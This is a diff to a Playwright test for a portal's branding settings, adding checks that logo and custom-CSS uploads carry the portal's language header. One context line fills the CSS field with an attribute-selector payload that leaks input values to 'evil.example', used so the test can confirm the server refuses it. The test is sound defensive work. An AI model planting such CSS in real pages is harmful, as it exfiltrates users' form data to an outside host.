@@ -30,7 +30,13 @@ test('a square logo and a French sign-in text set in the portal show on the Fren
 
     // CSS that could read the page is refused; the server's reason is announced next to it.
     await page.getByLabel('Custom CSS').fill('input[value^="a"] { background: url(https://evil.example/a); }');
+    const upload = page.waitForRequest((r) => r.method() === 'PUT' && r.url().endsWith('/squareLogo'));
+    const css = page.waitForRequest((r) => r.method() === 'PUT' && r.url().endsWith('/customCSS'));
     await page.getByRole('button', { name: 'Save' }).click();
+    // The image and the CSS, whose bodies are not JSON, still ask in the portal's language (the
+    // browser's own header would say en-US).
+    expect((await upload).headers()['accept-language']).toBe('en');
+    expect((await css).headers()['accept-language']).toBe('en');
     const refused = page.getByRole('alert').filter({ hasText: 'This CSS was not saved:' });
     await expect(refused).toBeVisible();
     await expect(page.getByLabel('Custom CSS')).toHaveAttribute('aria-invalid', 'true');
